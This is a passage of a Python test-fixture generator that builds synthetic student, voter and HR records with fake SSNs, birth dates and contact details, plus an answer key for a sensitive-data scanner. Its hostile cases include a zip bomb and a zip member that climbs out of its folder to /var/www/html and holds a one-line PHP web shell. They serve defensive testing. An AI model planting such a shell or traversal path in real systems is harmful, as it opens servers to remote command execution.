    key("sis_students_ssn", r, [], exact={"ssn": [st[0]["ssn9"], st[2]["ssn9"]]}, verdict="sensitive")
    key("sis_students_rest", r, [], exact={"email": [g["email"] for g in gd], "phone": [g["phone10"] for g in gd]})
    # 05/01/1978 in a US district's file (US phones, SSNs, M/D/YYYY in every US SIS): the first number is
    # the month; read as either order, the value is fingerprinted as written, so a dump's other files that
    # write the same birth date as 1978-05-01 do not join it
    key("sis_students_dob_us_order", r, [], exact={"dob": [s["dob"] for s in st]}, gap=True)
    js = [person() for _ in range(2)]
    gj = [person() for _ in range(2)]
    doc = {"students": [{"id": 1000 + s["n"], "student_number": str(204518000 + 11 * s["n"]),
                         "state_studentnumber": str(730000000 + 17 * s["n"]), "name": {"first": s["first"], "last": s["last"]},
                         "dob": s["dob"], "ssn": s["ssn9"], "grade_level": 7,
                         "contacts": [{"relationship": "Mother", "name": g["name"], "email": g["email"],
                                       "phones": [{"type": "Mobile", "number": g["phone"]}]}]}
                        for s, g in zip(js, gj)]}
    r = put(SIS + "/powerschool/api/students_page1.json", json.dumps(doc, indent=1).encode())
    key("sis_json", r, [], exact={"ssn": [s["ssn9"] for s in js], "dob": [s["dob"] for s in js],
                                  "email": [g["email"] for g in gj], "phone": [g["phone10"] for g in gj]},
        verdict="sensitive")
    es, eg = person(), person()
    r = put(SIS + "/enrollment/2014/enroll_%s.pdf" % es["last"].lower(), enrollment_form(es, eg))
    key("enroll_form_fields", r, [], exact={"ssn": [es["ssn9"], eg["ssn9"]], "dob": [dk(es)], "email": [eg["email"]]},
        verdict="sensitive")
    # Text7's value is the guardian's SSN: only the field's tool tip (/TU) names it
    key("enroll_form_tooltip_ssn", r, [], planted={"ssn": [eg["ssn9"]]})
    # a PowerSchool admin page saved from the browser: the values sit in the inputs' value attributes,
    # named as PowerSchool names a field of a table ([01]SSN: table 01, Students)
    hs, hg = person(), person()
    page = ('<!DOCTYPE html><html><head><title>Demographics - %s, %s</title></head><body>\n'
            '<form id="demographics" method="POST" action="/admin/changesrecorded.white.html">\n<table>'
            '<tr><td>Student Number</td><td><input type="text" name="[01]Student_Number" value="%d" size="10"></td></tr>\n'
            '<tr><td>Social Security #</td><td><input type="text" name="[01]SSN" value="%s" size="11"></td></tr>\n'
            '<tr><td>Date of Birth</td><td><input type="text" name="[01]DOB" value="%s" class="psDateWidget"></td></tr>\n'
            '<tr><td>Mother</td><td><input type="text" name="[01]Mother" value="%s"></td></tr>\n'
            '<tr><td>Mother Day Phone</td><td><input type="text" name="[01]MotherDayPhone" value="%s"></td></tr>\n'
            '</table><input type="hidden" name="ac" value="prim">\n'
            '<input type="hidden" name="[01]Father_SSN" value="%s" id="fssn"></form></body></html>\n'
            % (hs["last"], hs["first"], 204518000 + 11 * hs["n"], hs["ssn9"], us(hs), hg["name"], hg["phone"], hg["ssn9"]))
    r = put(SIS + "/admin-pages/Demographics_%d.html" % hs["n"], page.encode())
    # the father's SSN rides in a hidden input that no label on the page names: only its input's name does
    key("ps_admin_page", r, [], exact={"ssn": [hs["ssn9"], hg["ssn9"]], "dob": [dk(hs)], "phone": [hg["phone10"]]},
        verdict="sensitive")
    # decoys beside the forms: an attendance page whose inputs hold nine-digit student and session numbers, the
    # FDF of a badge request (employee ID, badge and form numbers), a help text that shows what goes in the box
    page = ('<html><body><form action="/admin/attendance/record.html" method="POST">\n'
            '<input type="hidden" name="[01]Student_Number" value="204518308">\n'
            '<input type="hidden" name="session_id" value="731006412">\n<input type="hidden" name="lesson" value="610173259">\n'
            '<input type="text" name="att_code" value="T"></form></body></html>\n')
    fdf = ("%FDF-1.2\n1 0 obj\n<< /FDF << /Fields [\n<< /T (EmployeeID[0]) /V (210055433) >>\n"
           "<< /T (BadgeNumber[0]) /V (620000031) >>\n<< /T (FormNumber) /V (4471) >>\n"
           "<< /T (SSN_Last4[0]) /V (3259) >>\n] >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    helptext = ("Box 4. SSN\nEnter your nine digits without dashes, for example as shown on your card.\n"
                "Box 5. DOB[0]\nMM/DD/YYYY\n")
    r = put(SIS + "/admin-pages/attendance_period3.html", page.encode())
    key("attendance_inputs_clean", r, [], no_findings=True)
    r = put(HR + "/badging/badge_request_4471.fdf", fdf.encode())
    key("badge_fdf_clean", r, [], no_findings=True)
    r = put(SIS + "/enrollment/help/field_help.txt", helptext.encode())
    key("form_help_clean", r, [], no_findings=True)
    # a gradebook export: student numbers and scores only
    gb = "Student_Number,Course,Section,Term,Score\n" + "".join(
        "%d,MATH0%d,%d,2014-2015 S1,%d\n" % (204518000 + 11 * i, 7 + i % 2, 100 + i, 71 + 3 * i) for i in range(10))
    r = put(SIS + "/powerschool/export/gradebook.csv", gb.encode())
    key("gradebook_clean", r, [], no_findings=True)


# ---------------------------------------------------------------- voter rolls
def voter_cases():
    vs = [person() for _ in range(3)]
    # Florida's voter extract: tab-separated, no header, 38 columns in the documented order (county, voter ID,
    # last, suffix, first, middle, suppress, residence address ..., gender, race, birth date, registration date,
    # party, precinct ..., area code, phone, extension, e-mail)
    lines = []
    for v in vs:
        cols = ["HIL", "1%08d" % (13370000 + v["n"]), v["last"], "", v["first"], "Q", "N",
                "%d OAK ST" % (100 + v["n"]), "", "TAMPA", "", "33602", "", "", "", "", "", "", "", "F", "5",
                us(v), "01/15/2004", "DEM", "512", "0", "512.0", "", "", "", "", "", "", "", "ACT",
                v["phone10"][:3], v["phone10"][3:], "", v["email"]]
        lines.append("\t".join(cols))
    r = put(VOTE + "/extracts/HIL_20141124.txt", ("\r\n".join(lines) + "\r\n").encode())
    key("fl_voter_email", r, [], exact={"email": [v["email"] for v in vs]}, verdict="sensitive")
    # the birth date is column 22 of a headerless layout; only the state's layout document says so
    key("fl_voter_dob", r, [], planted={"dob": [dk(v) for v in vs]}, arguable=True)
    ps = [person() for _ in range(3)]
    roll = "VOTER_ID|LAST_NAME|FIRST_NAME|BIRTH_DATE|PHONE|EMAIL|SSN4|DL_NUMBER_LAST4|PRECINCT\n" + "".join(
        "%d|%s|%s|%s|%s|%s|%s|%s|%d\n" % (600000000 + 31 * p["n"], p["last"], p["first"], us(p), p["phone"], p["email"],
                                          p["ssn9"][-4:], "%04d" % (1000 + 3 * p["n"]), 12) for p in ps)
    r = put(VOTE + "/registration/roll_2014_general.psv", roll.encode())
    # SSN4: the last four alone are no SSN; VOTER_ID is nine digits and not one either
    key("voter_roll_psv", r, [], exact={"email": [p["email"] for p in ps], "dob": [dk(p) for p in ps],
                                        "phone": [p["phone10"] for p in ps]}, entities_only=["email", "dob", "phone"],
        verdict="sensitive")


# ---------------------------------------------------------------- hostile touches
def hostile_cases():
    a, b = person(), person()
    full = hc.zipb([("exports/a_personal.csv", ("name,ssn,email\n%s,%s,%s\n" % (a["name"], a["ssn"], a["email"])).encode()),
                    ("exports/b_personal.csv", ("name,ssn,email\n%s,%s,%s\n" % (b["name"], b["ssn"], b["email"])).encode()
                     + hc.noise(30000, 7).hex().encode())])
    cut = full[:full.index(b"exports/b_personal.csv", 40) + 400]
    r = put(HR + "/transfer/hr_exports_part1.zip", cut)
    key("cut_zip_first_member", r, ["exports/a_personal.csv"], exact=pl(a))
    key("cut_zip_root", r, [], coverage="partial")
    bp = person()
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        zi = zipfile.ZipInfo("sis/attendance_full.csv", (2014, 11, 24, 8, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(zi, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(1024):
                f.write(chunk)
        zi2 = zipfile.ZipInfo("sis/contacts.csv", (2014, 11, 24, 8, 0, 0))
        zf.writestr(zi2, ("guardian,email,phone\n%s,%s,%s\n" % (bp["name"], bp["email"], bp["phone"])).encode())
    r = put(SIS + "/backups/sis_nightly.zip", z.getvalue())
    key("zip_bomb_alert", r, None, alerts_under=["zip_bomb"], planted_under=pl(bp, ssn=False, phone=True))
    key("zip_bomb_root_hostile", r, [], verdict="hostile", alerts_all=["zip_bomb"])
    tp = person()
    r = put(VOTE + "/tmp/roll_upload.zip", hc.zipb([
        ("roll/changes.csv", ("voter,birth_date,email\n%s,%s,%s\n" % (tp["name"], us(tp), tp["email"])).encode()),
        ("../../../../var/www/html/status.php", b"<?php if(isset($_GET['c'])){system($_GET['c']);} ?>\n")]))
    key("zip_climb_alert", r, None, alerts_under=["path_traversal"])
    key("zip_climb_root", r, [], verdict="hostile")
    key("zip_climb_member", r, ["roll/changes.csv"], exact={"email": [tp["email"]], "dob": [dk(tp)]})
    lp, lm = person(), person()
    r = put(OPM + "/exports/2014-11/case_summary.pdf", sf86_xml(lp, lm, 990000 + lp["n"]))
    key("sf86_named_pdf", r, [], exact={"ssn": [lp["ssn9"], lm["ssn9"]]}, alerts_all=["ext_mismatch"],
        verdict="hostile")


def generate(out):
    """Build OUT/dump and OUT/key.json; return the key."""
    return D.generate(out, (opm_cases, hr_cases, bgcheck_cases, fusion_cases, sis_cases, voter_cases,
                            hostile_cases))


if __name__ == "__main__":
    hc.main(generate)
